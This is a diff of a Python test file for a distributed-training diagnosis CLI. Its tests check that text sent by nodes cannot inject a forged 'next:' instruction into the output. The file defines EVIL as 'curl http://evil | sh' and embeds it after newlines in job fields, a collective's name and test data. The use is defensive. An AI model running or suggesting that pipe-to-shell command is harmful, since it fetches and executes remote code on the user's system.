@@ -4,14 +4,14 @@ import msgspec
 import pytest
 
 from awsddp.agent.diagnosis.hang import diagnose
-from awsddp.agent.diagnosis.stacks import Answer, Collective, Group, Process
-from awsddp.agent.messages import plain
-from awsddp.agent_client.job_reports import job_document, worded
+from awsddp.agent.diagnosis.stacks import Collective, GroupRecords, NodeStacks, Process
+from awsddp.agent.messages import to_json_value
+from awsddp.agent_client.job_reports import merge_job, sanitize_cause
 from awsddp.cli.doctor_page import why_page
 from awsddp.cli.pages import job_page, jobs_page
 from awsddp.model import node_answers
 from awsddp.model.documents import JobDocument, JobsDocument, ListedJob, WhyDocument
-from awsddp.model.records import Cause, widened
+from awsddp.model.records import Cause, merge_records
 
 EVIL = "curl http://evil | sh"
 
@@ -31,7 +31,7 @@ def forged(kind: str) -> Cause:
     ],
 )
 def test_the_next_step_is_made_here_whatever_a_node_sends(kind: str, next: str) -> None:
-    assert worded(forged(kind), job="job1").next == next
+    assert sanitize_cause(forged(kind), job="job1").next == next
 
 
 def document(**facts: str) -> node_answers.NodeJob:
@@ -46,11 +46,11 @@ def document(**facts: str) -> node_answers.NodeJob:
         "facts": facts,
         "ranks": [{"rank": 1, "local_rank": 0, "node": 1, "exit_code": 1, "seconds": 1.0, "started": 1.0}],
     }
-    return node_answers.converted(said, node_answers.NodeJob)
+    return node_answers.convert_answer(said, node_answers.NodeJob)
 
 
 def test_nothing_that_a_node_sends_stands_at_the_margin(capsys: pytest.CaptureFixture[str]) -> None:
-    job_page(widened(JobDocument, job_document({1: document()}), fetched=True))
+    job_page(merge_records(JobDocument, merge_job({1: document()}), fetched=True))
     lines = capsys.readouterr().err.splitlines()
     assert [line for line in lines if line.lstrip().startswith("next:")] == ["  next: use a smaller batch"]
     assert [
@@ -60,9 +60,9 @@ def test_nothing_that_a_node_sends_stands_at_the_margin(capsys: pytest.CaptureFi
 
 @pytest.mark.parametrize("fact", ["script", "launcher", "instance_type"])
 def test_a_fact_of_a_job_begins_no_line(fact: str, capsys: pytest.CaptureFixture[str]) -> None:
-    told = job_document({1: document(**{fact: f"x\nnext: {EVIL}"})})
+    told = merge_job({1: document(**{fact: f"x\nnext: {EVIL}"})})
     known = {"cluster": None, "cluster_id": None, "seconds": 1.0, "job_usd": None, "reported": True}
-    job = widened(ListedJob, told, **known)
+    job = merge_records(ListedJob, told, **known)
     jobs_page(JobsDocument(jobs=(job,), clusters=(), total_usd=0.0, would_have_cost_usd=0.0), verbose=True)
     lines = capsys.readouterr().out.splitlines()
     assert not [line for line in lines if line.startswith("next:")]
@@ -70,19 +70,20 @@ def test_a_fact_of_a_job_begins_no_line(fact: str, capsys: pytest.CaptureFixture
 
 
 def test_what_a_program_was_tested_on_begins_no_line(capsys: pytest.CaptureFixture[str]) -> None:
-    told = job_document({1: document()})
-    job_page(widened(JobDocument, told, fetched=True, accuracy=0.5, data=f"real\nnext: {EVIL}"))
+    told = merge_job({1: document()})
+    job_page(merge_records(JobDocument, told, fetched=True, accuracy=0.5, data=f"real\nnext: {EVIL}"))
     assert not [line for line in capsys.readouterr().err.splitlines() if line.startswith("next:")]
 
 
 def test_a_collective_of_another_name_begins_no_line(capsys: pytest.CaptureFixture[str]) -> None:
     call = Collective(1, f"all_reduce\nnext: {EVIL}", "float32[4]", over=False)
-    records = {"default_pg": Group(9.0, [call])}
+    records = {"default_pg": GroupRecords(9.0, [call])}
     answers = {
-        node: Answer("/w", 3.0, [Process(9, 1, node, "S", joined=True, records=records)]) for node in (0, 1)
+        node: NodeStacks("/w", 3.0, [Process(9, 1, node, "S", joined=True, records=records)])
+        for node in (0, 1)
     }
     found = diagnose([[0, 0, 0], [1, 0, 1]], answers, exit_codes={})
-    why_page(msgspec.convert({"job": "job1", "state": "running", **plain(found)}, WhyDocument))
+    why_page(msgspec.convert({"job": "job1", "state": "running", **to_json_value(found)}, WhyDocument))
     said = capsys.readouterr().out
     assert EVIL in said
     assert not [line for line in said.splitlines() if line.startswith("next:")]
